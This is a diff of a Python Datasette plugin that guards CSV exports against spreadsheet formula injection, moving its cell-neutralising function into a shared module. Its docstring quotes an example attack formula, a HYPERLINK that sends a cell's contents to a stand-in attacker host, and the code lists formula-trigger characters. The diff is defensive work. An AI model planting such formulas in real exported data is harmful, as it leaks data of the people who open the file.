@@ -4,9 +4,8 @@ A comment that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage retur
 formula by Excel, LibreOffice and Google Sheets when the exported CSV is opened
 (``=HYPERLINK("https://evil.example/?"&A2, "click")``). Datasette writes cells as they are, so
 this plugin (Datasette's ``asgi_wrapper`` hook; Datasette 0.65 has no hook on CSV cells) rewrites
-every CSV response, table, row or query alike and streamed or not, record by record: such a cell
-gets a leading apostrophe, which spreadsheets show as text (the OWASP advice). Plain numbers
-(``-0.42``, ``+3``) are left alone, and the stored text, the HTML pages and the JSON are unchanged.
+every CSV response, table, row or query alike and streamed or not, record by record, through
+:func:`feedback.spreadsheet.neutralise`. The stored text, the HTML pages and the JSON are unchanged.
 
 Registered as its own Datasette plugin (the ``feedback_csv_safety`` entry point), beside
 ``feedback.serve.plugin``.
@@ -17,28 +16,19 @@ from __future__ import annotations
 import codecs
 import csv
 import io
-import re
 from collections.abc import Awaitable, Callable, MutableMapping
 from typing import Any
 
 from datasette import hookimpl
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+from feedback.spreadsheet import neutralise
+
 CSV_TYPES = (b"text/csv", b"text/plain")  # Datasette sends text/plain unless ?_dl=1
 
 Scope = MutableMapping[str, Any]
 Message = MutableMapping[str, Any]
 Send = Callable[[Message], Awaitable[None]]
 App = Callable[[Scope, Any, Send], Awaitable[None]]
-
-
-def neutralise(cell: str) -> str:
-    """The cell as a spreadsheet will show it as text: an apostrophe before a formula's first
-    character; a number (``-0.42``) and anything else unchanged."""
-    if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
-        return "'" + cell
-    return cell
 
 
 def complete_records(text: str) -> int:
